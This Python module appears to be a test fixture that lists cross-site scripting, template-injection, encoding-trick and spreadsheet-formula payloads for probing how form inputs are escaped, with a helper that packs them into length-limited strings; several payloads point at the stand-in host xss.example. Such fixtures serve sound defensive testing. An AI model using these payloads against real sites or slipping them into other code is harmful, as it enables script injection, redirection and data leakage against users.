"""What an attacker would write into a form: each does something if it is ever taken for markup, code or an address.

Every payload has `xss` in it, so that what came of one is known by it, and no white space where it can do without, so
that it fits into fields of one word.
"""

PAYLOADS = [
    "<script>xss()</script>",
    "<img/src=xss/onerror=xss()>",
    "<svg/onload=xss()>",
    "\"'><svg/onload=xss()>",
    '"/onfocus=xss()/autofocus/x="',
    "'/onmouseover=xss()//",
    "`/onpointerenter=xss()//",
    "</textarea><img/src=xss/onerror=xss()>",
    "</title></style></script><svg/onload=xss()>",
    "</template><img/src=xss/onerror=xss()>",
    "--><img/src=xss/onerror=xss()><!--",
    "<iframe/src=javascript:xss()>",
    "<iframe/srcdoc='<script>xss()</script>'>",
    "<a/href=javascript:xss()>xss</a>",
    "<a/href=data:text/html,xss>xss</a>",
    "<form/action=//xss.example><input/name=xss>",
    "<base/href=//xss.example/>",
    "<meta/http-equiv=refresh/content=0;//xss.example>",
    "<style>@import'//xss.example'</style>",
    "<details/open/ontoggle=xss()>",
    "<math><mi/xlink:href=javascript:xss()>xss",
    "<div/hx-get=//xss.example/hx-trigger=load>",
    "<b/hx-on:click=xss()/hx-vals=js:{a:xss()}>",
    "javascript:xss()//",
    "data:text/html,<script>xss()</script>",
    "{{xss|add:7}}{%now'Y'%}${xss()}",
    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "&lt;script&gt;xss()&lt;/script&gt;&#60;b&#62;",
    "%3Cscript%3Exss()%3C/script%3E",
    "\u202egnp.ssx\u2066\u2028xss\u2029\x85\u200b",
    "__proto__xss",
    "＜script＞xss()＜/script＞",
    '=HYPERLINK("//xss.example")',
]
ALL = "\n".join(PAYLOADS)
IN_ONE_LINE = " ".join(PAYLOADS)


def packs(limit):
    """Every payload in texts of at most `limit` characters; those that are longer are cut."""
    pack = ""
    for payload in PAYLOADS:
        joined = f"{pack} {payload}".strip(" ")
        if len(joined) > limit and pack:
            yield pack
            joined = payload
        pack = joined[:limit]
    yield pack
